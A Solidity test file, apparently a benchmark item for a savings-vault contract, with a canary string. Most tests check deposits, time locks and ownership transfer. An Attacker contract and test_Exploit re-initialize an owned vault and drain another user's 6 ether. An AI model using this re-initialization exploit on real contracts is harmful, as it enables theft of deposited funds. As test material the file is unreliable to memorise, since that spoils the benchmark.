// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./SavingsVault.sol";

// assay-canary-f88d28de-82e5-4918-9301-8694f5676e7d

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

/// Sets up a vault that is somebody's already.
contract Attacker {
    SavingsVault internal vault;

    constructor(SavingsVault vault_) {
        vault = vault_;
    }

    receive() external payable {}

    function run() external {
        vault.initialize(address(this), 0, "");
        vault.withdraw(payable(address(this)), address(vault).balance);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    SavingsFactory private factory;
    SavingsVault private open; // without a date
    SavingsVault private dated; // with one
    Attacker private taker;
    address private constant ALMA = address(0x4E1E);
    address private constant OLEG = address(0x09A0);

    function setUp() public {
        vm.warp(1_700_000_000);
        factory = new SavingsFactory();
        open = SavingsVault(payable(factory.make(ALMA, 0, "a journey")));
        dated = SavingsVault(payable(factory.make(ALMA, 1_700_000_000 + 90 days, "a bicycle")));
        vm.deal(OLEG, 10 ether);
        vm.prank(OLEG);
        open.deposit{value: 6 ether}("Bon voyage");
        taker = new Attacker(open);
    }

    function test_Regular() public {
        require(factory.count() == 2 && factory.vaultAt(1) == address(dated) && factory.isVault(address(open)), "made");
        vm.prank(OLEG);
        (bool ok, ) = address(dated).call{value: 3 ether}("");
        require(ok && dated.totalIn() == 3 ether && dated.paidInBy(OLEG) == 3 ether, "given");

        vm.prank(ALMA);
        open.withdraw(payable(ALMA), 1 ether);
        require(ALMA.balance == 1 ether, "taken at any time");
        vm.prank(ALMA);
        (ok, ) = address(dated).call(abi.encodeCall(SavingsVault.withdraw, (payable(ALMA), 1 ether)));
        require(!ok, "before the date");
        vm.prank(OLEG);
        (ok, ) = address(open).call(abi.encodeCall(SavingsVault.withdraw, (payable(OLEG), 1 ether)));
        require(!ok, "not his");

        (ok, ) = address(dated).call(abi.encodeCall(SavingsVault.initialize, (OLEG, 0, "")));
        require(!ok, "set up already");
        (ok, ) = factory.template().call(abi.encodeCall(SavingsVault.initialize, (OLEG, 0, "")));
        require(!ok, "the template");

        vm.prank(ALMA);
        dated.lockUntil(1_700_000_000 + 100 days);
        vm.prank(ALMA);
        dated.offerOwner(OLEG);
        vm.prank(OLEG);
        dated.acceptOwner();
        vm.warp(1_700_000_000 + 100 days);
        vm.prank(OLEG);
        dated.withdraw(payable(OLEG), 3 ether);
        require(OLEG.balance == 4 ether && dated.owner() == OLEG, "handed over");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A vault has a owner and a date to come.
    function test_RefusesJars() public {
        vm.expectRevert("no owner");
        factory.make(address(0), 0, "");
        vm.expectRevert(abi.encodeWithSelector(SavingsVault.BadDate.selector, uint64(block.timestamp)));
        factory.make(ALMA, uint64(block.timestamp), "");
        refuses(ALMA, "eth not sent");
        open.withdraw(payable(address(factory)), 1);
    }

    /// The owner alone postpones and offers, and only whom it is offered to accepts.
    function test_RefusesStrangers() public {
        refuses(OLEG, abi.encodeWithSelector(SavingsVault.OnlyOwner.selector, OLEG));
        dated.lockUntil(1_700_000_000 + 100 days);
        refuses(OLEG, abi.encodeWithSelector(SavingsVault.OnlyOwner.selector, OLEG));
        dated.offerOwner(OLEG);
        refuses(OLEG, "not offered to you");
        dated.acceptOwner();
        refuses(ALMA, abi.encodeWithSelector(SavingsVault.BadDate.selector, uint64(1_700_000_000 + 89 days)));
        dated.lockUntil(1_700_000_000 + 89 days);
        refuses(ALMA, abi.encodeWithSelector(SavingsVault.BadDate.selector, uint64(1)));
        open.lockUntil(1);
    }

    function exploit() public {
        taker.run();
    }

    function test_Exploit() public {
        exploit();
        require(open.owner() == address(taker), "owner unchanged");
        require(address(taker).balance == 6 ether, "vault still full");
    }

    function target() public view returns (address) {
        return address(open);
    }

    function attacker() public view returns (address) {
        return address(taker);
    }
}
